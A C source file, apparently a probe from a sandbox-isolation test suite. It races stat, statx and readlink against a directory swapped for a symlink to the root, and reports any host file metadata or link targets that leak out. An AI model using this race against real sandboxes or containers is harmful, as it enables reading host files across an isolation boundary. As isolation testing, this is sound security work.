// Class 2: stat/statx/access/readlink of a path whose directory is swapped with a symlink to "/".
// A result that is not the decoy's is the host's file (information leak).
#include "race.h"

int main(void) {
  p_start();
  char* base = race_setup();
  char* path = p_strf("%s/secret.txt", base);
  char* lnk = p_strf("%s/canary.lnk", base);
  struct stat decoy;
  if (stat(path, &decoy) != 0) p_end();
  long tries = 0, hits = 0;
  race_begin();
  double end = now_s() + RACE_SECONDS;
  while (now_s() < end && hits < 3) {
    ++tries;
    struct stat st;
    if (stat(path, &st) == 0 && st.st_ino != decoy.st_ino) {
      ++hits;
      p_escape("race stat: host file ino %llu size %lld", (unsigned long long)st.st_ino,
               (long long)st.st_size);
    }
    struct statx sx;
    if (statx(AT_FDCWD, path, 0, STATX_INO, &sx) == 0 && sx.stx_ino != decoy.st_ino) {
      ++hits;
      p_escape("race statx: host ino %llu", (unsigned long long)sx.stx_ino);
    }
    char l[512];
    ssize_t n = readlink(lnk, l, sizeof l);
    if (n > 0) {
      ++hits;
      p_loot("race readlink", l, (size_t)n);
    }
  }
  race_end("stat/statx/readlink", tries, hits);
  p_end();
}
